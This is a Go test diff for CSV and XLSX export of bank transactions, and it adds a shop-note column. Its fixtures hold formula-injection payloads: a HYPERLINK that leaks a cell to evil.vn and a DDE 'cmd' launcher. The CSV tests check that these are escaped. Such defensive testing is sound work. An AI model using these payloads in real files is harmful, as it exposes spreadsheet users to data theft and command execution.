@@ -38,7 +38,7 @@ func transactions() (list []app.Transaction) {
 		case 2: // only its day is known
 			t.Time, t.DateOnly = time.Date(2026, 11, 21, 0, 0, 0, 0, zone), true
 		case 3:
-			t.Time, t.DateFlaw = t.CreatedAt, app.DateImpossible
+			t.Time, t.DateFlaw, t.Note = t.CreatedAt, app.DateImpossible, "=1+1"
 		}
 		list = append(list, t)
 	}
@@ -66,11 +66,11 @@ func TestCSV(t *testing.T) {
 	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
 	must(t, err)
 	want := [][]string{
-		{"Mã baoco", "Thời gian", "Ngân hàng", "Số tài khoản", "Tiền vào", "Tiền ra", "Nội dung", "Mã giao dịch", "Ghi nhận lúc", "Ngày giờ là lúc nhận"},
-		{"1", "2026-11-21 10:59:00", "ACB", "0072413870", "1549000", "", "DH10293 thanh toán", "FT00A", "2026-11-21 11:00:01", "0"},
-		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1549001", `'=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B", "2026-11-21 11:00:01", "0"},
-		{"3", "2026-11-21", "ACB", "0072413870", "1549002", "", "'+cmd|' /C calc'!A0", "FT00C", "2026-11-21 11:00:01", "0"},
-		{"4", "2026-11-21 11:00:01", "ACB", "0072413870", "1549003", "", "'-2+3", "FT00D", "2026-11-21 11:00:01", "1"},
+		{"Mã baoco", "Thời gian", "Ngân hàng", "Số tài khoản", "Tiền vào", "Tiền ra", "Nội dung", "Mã giao dịch", "Ghi nhận lúc", "Ngày giờ là lúc nhận", "Ghi chú cửa hàng"},
+		{"1", "2026-11-21 10:59:00", "ACB", "0072413870", "1549000", "", "DH10293 thanh toán", "FT00A", "2026-11-21 11:00:01", "0", ""},
+		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1549001", `'=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B", "2026-11-21 11:00:01", "0", ""},
+		{"3", "2026-11-21", "ACB", "0072413870", "1549002", "", "'+cmd|' /C calc'!A0", "FT00C", "2026-11-21 11:00:01", "0", ""},
+		{"4", "2026-11-21 11:00:01", "ACB", "0072413870", "1549003", "", "'-2+3", "FT00D", "2026-11-21 11:00:01", "1", "'=1+1"},
 	}
 	if diff := cmp.Diff(want, rows[:5]); diff != "" {
 		t.Error(diff)
@@ -100,11 +100,11 @@ func TestXLSX(t *testing.T) {
 	rows, err := f.GetRows(names[0])
 	must(t, err)
 	want := [][]string{
-		{"baoco id", "Transaction date", "Bank", "Account number", "Money in", "Money out", "Content", "Transaction number", "Recorded at", "Date flagged"},
+		{"baoco id", "Transaction date", "Bank", "Account number", "Money in", "Money out", "Content", "Transaction number", "Recorded at", "Date flagged", "Shop note"},
 		{"1", "2026-11-21 10:59:00", "ACB", "0072413870", "1,549,000", "", "DH10293 thanh toán", "FT00A", "2026-11-21 11:00:01", "0"},
 		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1,549,001", `=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B", "2026-11-21 11:00:01", "0"},
 		{"3", "2026-11-21", "ACB", "0072413870", "1,549,002", "", "+cmd|' /C calc'!A0", "FT00C", "2026-11-21 11:00:01", "0"},
-		{"4", "2026-11-21 11:00:01", "ACB", "0072413870", "1,549,003", "", "-2+3", "FT00D", "2026-11-21 11:00:01", "1"},
+		{"4", "2026-11-21 11:00:01", "ACB", "0072413870", "1,549,003", "", "-2+3", "FT00D", "2026-11-21 11:00:01", "1", "=1+1"},
 	}
 	if diff := cmp.Diff(want, rows[:5]); diff != "" {
 		t.Error(diff)
@@ -141,7 +141,7 @@ func TestReadBack(t *testing.T) {
 					if row.Fault != nil {
 						t.Errorf("row %d: %+v", want.ID, row.Fault)
 					}
-					got := app.Transaction{ID: want.ID, Bank: row.Gateway, AccountNumber: row.AccountNumber, Number: row.Number, Type: row.Type, Amount: row.Amount, Content: want.Content, Time: row.Time, DateOnly: row.DateOnly, DateFlaw: want.DateFlaw, CreatedAt: want.CreatedAt}
+					got := app.Transaction{ID: want.ID, Bank: row.Gateway, AccountNumber: row.AccountNumber, Number: row.Number, Type: row.Type, Amount: row.Amount, Content: want.Content, Time: row.Time, DateOnly: row.DateOnly, DateFlaw: want.DateFlaw, CreatedAt: want.CreatedAt, Note: want.Note}
 					if diff := cmp.Diff(want, got); diff != "" {
 						t.Error(diff)
 					}
